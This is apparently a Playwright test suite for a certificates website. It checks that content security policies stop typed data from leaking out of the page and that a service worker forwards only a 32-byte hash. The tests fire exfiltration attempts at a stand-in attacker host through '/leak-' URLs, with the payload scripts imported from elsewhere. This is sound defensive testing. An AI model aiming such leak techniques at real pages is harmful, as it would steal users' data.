"""Nothing that was written leaves either page, by any way and each by itself; the worker passes on 32 bytes alone."""

from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urldefrag

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as PlaywrightError

from tests.certificates_site.conftest import Attacker, Running
from tests.certificates_site.visits import (
    ATTACKS,
    HEARD_WITHOUT,
    LEAVING,
    NAME,
    WAYS_OUT,
    check,
    fill_in,
    make,
    wait_for_worker,
    ways,
)
from tests.journeys.node import wait_for

pytestmark = pytest.mark.browser
ASK = """([wish, isBytes]) => new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => resolve(data === null ? null : data.byteLength);
    navigator.serviceWorker.controller.postMessage(isBytes ? new Uint8Array(wish).buffer : wish, [port2]);
})"""


def fill_the_form(phone: Page) -> None:
    """Have the page that makes certificates hold what somebody wrote."""
    fill_in(phone)


def show_certificate(phone: Page) -> None:
    """Have the page that checks show it."""
    fill_in(phone)
    check(phone, make(phone))


OPENED: dict[str, Callable[[Page], None]] = {"make": fill_the_form, "verify": show_certificate}


@pytest.fixture(params=OPENED)
def written(request: pytest.FixtureRequest, phone: Page) -> Page:
    """A page that holds what somebody wrote."""
    OPENED[request.param](phone)
    wait_for_worker(phone)
    return phone


def test_nothing_written_leaves_the_page_by_any_way(
    browser: Browser, written: Page, site: Running, attacker: Attacker
) -> None:
    before, address = len(site.requests()), written.url
    tried = written.evaluate(f"({ATTACKS})", {"attacker": attacker.url, "word": NAME})
    assert "eval ran" not in tried
    assert "markup ran" not in tried
    assert urldefrag(written.url).url == address
    assert [line for line in site.requests()[before:] if "leak" in line or NAME in line] == []
    # A page without our policies proves that the same attempts are heard, and comes after whatever was on its way.
    other = browser.new_page()
    other.goto(f"{attacker.url}/control")
    other.evaluate(f"({ATTACKS})", {"attacker": attacker.url, "word": "control", "stays": True})
    wait_for("the attacker to hear all these ways", lambda: ways(attacker.heard) >= HEARD_WITHOUT)
    other.close()
    assert [line for line in attacker.heard if NAME in line] == []


@pytest.mark.parametrize("path", ["/", "/verify/"])
def test_each_way_to_go_elsewhere_is_shut_by_itself(
    path: str, browser: Browser, phone: Page, site: Running, attacker: Attacker
) -> None:
    for way in WAYS_OUT:
        phone.goto(path)
        phone.locator("h1").wait_for()
        with suppress(PlaywrightError):  # Some are answered with an error.
            phone.evaluate(LEAVING, [way, f"{attacker.url}/leak-{way}?name=shut"])
    # The same ways lead out of a page without policies, and come after those that were tried before.
    for way in WAYS_OUT:
        other = browser.new_page()
        other.goto(f"{attacker.url}/control")
        with suppress(PlaywrightError):
            other.evaluate(LEAVING, [way, f"{attacker.url}/leak-{way}?name=open"])
        wait_for(f"the attacker to hear {way}", lambda way=way: f"GET /leak-{way}?name=open" in attacker.heard)  # type: ignore[misc]
        other.context.close()
    assert [line for line in attacker.heard if "shut" in line] == []
    assert urldefrag(phone.url).url == f"{site.url}{path}"


@pytest.mark.parametrize(
    ("wish", "is_bytes"),
    [([7] * 31, True), ([7] * 33, True), ([], True), (NAME, False), ("/v1/seal", False), ({"hash": [7] * 32}, False)],
)
def test_the_worker_passes_on_nothing_but_a_hash(wish: object, is_bytes: bool, phone: Page, site: Running) -> None:
    phone.goto("/")
    wait_for_worker(phone)
    before = len(site.requests())
    assert phone.evaluate(ASK, [wish, is_bytes]) is None
    assert phone.evaluate(ASK, [[7] * 32, True]) == 130
    assert [line for line in site.requests()[before:] if line.startswith("POST")] == ["POST /v1/seal 32"]
